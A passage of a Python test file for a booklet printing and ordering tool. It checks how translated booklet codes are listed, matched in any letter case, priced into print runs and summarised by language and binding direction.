    assert not proofs.drafts
    assert "CORP-NOIMG" in proofs.codes
    assert [o.code for o in orders.read_orders(path, proofs.codes, proofs.limits, proofs.drafts)] == [
        "CORP-ALL-01",
        "CORP-NOIMG",
    ]


# ---- Translations (issue 18): ordered by the English code and the language tag ----


def test_each_translation_is_ordered_by_its_own_code(tmp_path: Path) -> None:

    offer = available(Project.load(translated_content(tmp_path, "order_limits:\n  CORP-TRANS: 1200\n")))
    tags = ("ar", "bn", "pa", "pl", "ur", "zh-Hans")
    assert sorted(offer.codes) == ["CORP-TRANS", *sorted(f"CORP-TRANS-{tag}" for tag in tags)]
    assert offer.codes["CORP-TRANS-ar"] == ["standard", "large-print"], "the variants the translation has"
    assert offer.booklets["CORP-TRANS-ar"].lang == "ar"
    assert offer.booklets["CORP-TRANS-ar"].meta.title == "العناية بفمك"
    assert offer.booklets["CORP-TRANS"].lang == "", "the English code is unchanged"
    assert offer.titles["CORP-TRANS-ar"] == "Looking after your mouth - Arabic (العربية)"
    assert offer.titles["CORP-TRANS-zh-Hans"] == "Looking after your mouth - Chinese (Simplified) (中文)"
    assert offer.limits.of("CORP-TRANS-pl") == 1200, "a translation has its English code's limit"


def test_an_order_file_orders_a_translation_in_any_case(tmp_path: Path) -> None:

    offer = available(Project.load(translated_content(tmp_path)))
    path = tmp_path / "orders.csv"
    path.write_text(
        f"{HEADER}corp-trans-ZH-HANS,standard,5,Ward 4{TO}\nCORP-TRANS-ur,large-print,2,Ward 4{TO}\n"
        f"CORP-TRANS-pl,easy-read,2,Ward 4{TO}\nCORP-TRANS-fr,standard,2,Ward 4{TO}\n",
        encoding="utf-8",
    )
    with pytest.raises(ContentError) as info:
        orders.read_orders(path, offer.codes, offer.limits, offer.drafts)
    found = {(p.line, p.message) for p in info.value.problems}
    assert found == {
        (4, "booklet CORP-TRANS-pl has no variant 'easy-read'"),
        (5, "unknown booklet code 'CORP-TRANS-fr'"),
    }
    path.write_text(
        f"{HEADER}corp-trans-ZH-HANS,standard,5,Ward 4{TO}\nCORP-TRANS-ur,large-print,2,Ward 4{TO}\n",
        encoding="utf-8",
    )
    read = orders.read_orders(path, offer.codes, offer.limits, offer.drafts)
    assert [(o.code, o.variant) for o in read] == [
        ("CORP-TRANS-zh-Hans", "standard"),
        ("CORP-TRANS-ur", "large-print"),
    ]


def test_a_translation_and_its_original_are_one_run_with_named_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The run holds each language's print files side by side; the summary names the language and binding."""
    from booklet.press import print_run

    fake_print_ready(monkeypatch, pages=12)
    offer = available(Project.load(translated_content(tmp_path)))
    rows = [
        Order(1, "CORP-TRANS", "standard", 10, "Ward 7", *DELIVERY),
        Order(2, "CORP-TRANS-ar", "standard", 4, "Ward 7", *DELIVERY),
        Order(3, "CORP-TRANS-pl", "standard", 3, "Ward 7", *DELIVERY),
    ]
    written = print_run.make_run(offer, rows, tmp_path / "run", imposed=True)
    names = {p.name for p in written}
    assert {
        "translated-standard-print.pdf",
        "translated-standard-imposed.pdf",
        "translated-standard-ar-print.pdf",
        "translated-standard-ar-imposed.pdf",
        "translated-standard-pl-print.pdf",
        "translated-standard-pl-imposed.pdf",
    } <= names
    summary = (tmp_path / "run" / "summary.txt").read_text(encoding="utf-8")
    lines = summary.splitlines()
    ar = lines.index("CORP-TRANS-ar standard: 4 copies x 12 pages = 3 sheets of A4 each, 12 sheets of A4")
    assert lines[ar + 1].startswith("    language: Arabic (العربية), bound on the right")
    pl = lines.index("CORP-TRANS-pl standard: 3 copies x 12 pages = 3 sheets of A4 each, 9 sheets of A4")
    assert lines[pl + 1] == "    language: Polish (Polski), bound on the left"
    english = lines.index("CORP-TRANS standard: 10 copies x 12 pages = 3 sheets of A4 each, 30 sheets of A4")
    assert not lines[english + 1].startswith("    language:"), "the English summary is as before"
    assert "    [ ] CORP-TRANS-ar standard, in Arabic (العربية): 4 copies" in lines
    assert "    [ ] CORP-TRANS standard: 10 copies" in lines
    run = (tmp_path / "run" / "run.csv").read_text(encoding="utf-8")
    assert "order,CORP-TRANS-ar,standard,4,Ward 7" in run


def test_the_order_form_lists_each_translation_after_the_english_code(tmp_path: Path) -> None:
    from booklet.press import print_run

    form = print_run.order_form(Project.load(translated_content(tmp_path))).splitlines()
    assert [line.split(",")[:2] for line in form[1:5]] == [
        ["CORP-TRANS", "standard"],
        ["CORP-TRANS", "large-print"],
        ["CORP-TRANS-ar", "standard"],
        ["CORP-TRANS-ar", "large-print"],
    ]
    assert form[3].endswith(",Looking after your mouth - Arabic (العربية)")
    assert len(form) == 1 + 7 * 2, "the header, then two variants of the original and of each translation"


def test_an_english_code_that_a_translation_would_take_stays_the_english_booklets(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Orders match codes whatever their case: CORP-TRANS-AR (English) and CORP-TRANS-ar cannot both be."""

    content = translated_content(tmp_path)
    other = content / "other"
    other.mkdir()
    text = (content / "translated" / "booklet.md").read_text(encoding="utf-8")
    (other / "booklet.md").write_text(
        text.replace("code: CORP-TRANS\n", "code: CORP-TRANS-AR\n"), encoding="utf-8"
    )
    with caplog.at_level("WARNING", logger="booklet"):
        offer = available(Project.load(content))
    assert offer.booklets["CORP-TRANS-AR"].slug == "other"
    assert "CORP-TRANS-ar" not in offer.codes
    assert "CORP-TRANS-ur" in offer.codes
    assert "translated: cannot be ordered as CORP-TRANS-ar: another booklet has that code" in caplog.text
